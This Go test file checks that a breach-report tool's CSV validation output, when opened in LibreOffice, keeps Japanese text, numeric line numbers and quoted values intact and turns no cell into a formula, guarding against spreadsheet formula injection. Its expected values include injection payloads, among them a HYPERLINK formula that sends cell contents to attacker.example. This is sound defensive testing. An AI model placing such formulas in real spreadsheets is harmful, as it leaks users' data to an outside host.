package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"breachreport/internal/clienttest"
)

// TestValidateCSVInLibreOffice opens the table of validate --format csv on the Japanese list
// in LibreOffice, as a consultant would open it in a spreadsheet, converts it to .xlsx and
// reads the cells back with excelize: the byte-order mark is not in the first header, the
// Japanese headers and values, the line numbers (as numbers) and the quoted payloads (as
// text) survive, and no cell is a formula. The same table without the quotes, converted
// alongside, must hold formulas: it shows that the check for formulas can fail.
func TestValidateCSVInLibreOffice(t *testing.T) {
	soffice := clienttest.LibreOffice(t)
	r := runCmd(t, "", "validate", "-i", consultantFile(t), "--format", "csv")
	if r.status != 1 {
		t.Fatalf("exit %d, want 1 (a rejected row): %s", r.status, r.stderr)
	}
	rows := readValidationCSV(t, r.stdout)
	if len(rows) != 8 {
		t.Fatalf("%d issues, want the 8 of TestValidateCSV", len(rows))
	}

	dir := t.TempDir()
	guarded := filepath.Join(dir, "issues.csv")
	if err := os.WriteFile(guarded, []byte(r.stdout), 0o644); err != nil {
		t.Fatal(err)
	}
	var bare strings.Builder
	bare.WriteString(utf8BOM)
	cw := csv.NewWriter(&bare)
	cw.UseCRLF = true
	cw.Write(csvColumns)
	for _, row := range rows {
		vals := make([]string, len(row))
		for i, c := range row {
			vals[i] = valueOfCell(c)
		}
		cw.Write(vals)
	}
	cw.Flush()
	unguarded := filepath.Join(dir, "unguarded.csv")
	if err := os.WriteFile(unguarded, []byte(bare.String()), 0o644); err != nil {
		t.Fatal(err)
	}

	// CSV import: comma, double quote, UTF-8 (76; LibreOffice does not go by the
	// byte-order mark), from line 1; formulas are evaluated, as in the import dialog.
	out := t.TempDir()
	args := []string{"-env:UserInstallation=file://" + filepath.ToSlash(t.TempDir()), "--headless", "--norestore",
		"--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", out, guarded, unguarded}
	if msg, err := clienttest.Run(t, 3*time.Minute, soffice, args...); err != nil {
		t.Fatalf("soffice %s: %v\n%s", strings.Join(args, " "), err, msg)
	}

	// open returns the cells of the first sheet of the converted file name (raw values),
	// their types, and its formula cells.
	open := func(name string) (cells [][]string, types [][]excelize.CellType, formulas []string) {
		t.Helper()
		f, err := excelize.OpenFile(filepath.Join(out, name))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		sheet := f.GetSheetList()[0]
		cells, err = f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range cells {
			types = append(types, make([]excelize.CellType, len(row)))
			for j := range row {
				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if fo, _ := f.GetCellFormula(sheet, ref); fo != "" {
					formulas = append(formulas, ref+" ="+fo)
				}
				if types[i][j], err = f.GetCellType(sheet, ref); err != nil {
					t.Fatal(err)
				}
			}
		}
		return cells, types, formulas
	}

	if _, _, formulas := open("unguarded.xlsx"); len(formulas) == 0 {
		t.Error("the table without quotes holds no formula in LibreOffice: the check below proves nothing")
	}
	cells, types, formulas := open("issues.xlsx")
	if len(formulas) > 0 {
		t.Errorf("cells became formulas: %q", formulas)
	}
	if len(cells) != len(rows)+1 {
		t.Fatalf("%d rows in LibreOffice, want the header and %d issues", len(cells), len(rows))
	}
	if !slices.Equal(cells[0], csvColumns) {
		t.Errorf("header row %q, want %q (a byte-order mark left in the first header?)", cells[0], csvColumns)
	}
	col := func(name string) int { return slices.Index(csvColumns, name) }
	cell := func(i int, name string) string {
		if j := col(name); j < len(cells[i]) {
			return cells[i][j]
		}
		return ""
	}
	for i, row := range rows {
		// Every line number and column position is a number cell of the same value.
		for _, name := range []string{"line", "column_index"} {
			if want := row[col(name)]; want != "" && (cell(i+1, name) != want || types[i+1][col(name)] != excelize.CellTypeNumber) {
				t.Errorf("row %d %s = %q (type %d), want the number %s", i+2, name, cell(i+1, name), types[i+1][col(name)], want)
			}
		}
		// Every text cell is as written, Japanese and quotes included; other values
		// (dates, numbers) LibreOffice may turn into numbers, which is no formula.
		for _, name := range []string{"kind", "severity", "column", "header", "incident_id", "message"} {
			if got, want := cell(i+1, name), row[col(name)]; got != want {
				t.Errorf("row %d %s = %q, want %q", i+2, name, got, want)
			}
		}
		if v := row[col("value")]; strings.HasPrefix(v, "'") || strings.ContainsFunc(v, func(r rune) bool { return r > 0x7f }) {
			if got := cell(i+1, "value"); got != v {
				t.Errorf("row %d value = %q, want %q", i+2, got, v)
			}
		}
	}

	// Named cells, as a consultant would look for them.
	find := func(kind, line string) int {
		for i := 1; i < len(cells); i++ {
			if cell(i, "kind") == kind && cell(i, "line") == line {
				return i
			}
		}
		t.Fatalf("no %s issue on line %s in LibreOffice's rows %q", kind, line, cells)
		return 0
	}
	if i := find("required", "4"); cell(i, "header") != "企業名" || cell(i, "column_index") != "2" || cell(i, "severity") != "rejected" {
		t.Errorf("the missing organization reads %q", cells[i])
	}
	if i := find("date", "2"); cell(i, "header") != "漏えい終了日" || cell(i, "value") != "平成30年12月27日7" {
		t.Errorf("the typo reads %q", cells[i])
	}
	for _, want := range []string{`'=HYPERLINK("https://attacker.example/?x="&A1,"click")`, "'=1+2", "'-1+2", "'@SUM(1+2)", "'+1+2", "''=1+2"} {
		found := false
		for _, row := range cells {
			found = found || slices.Contains(row, want)
		}
		if !found {
			t.Errorf("no cell reads %q as text", want)
		}
	}
}
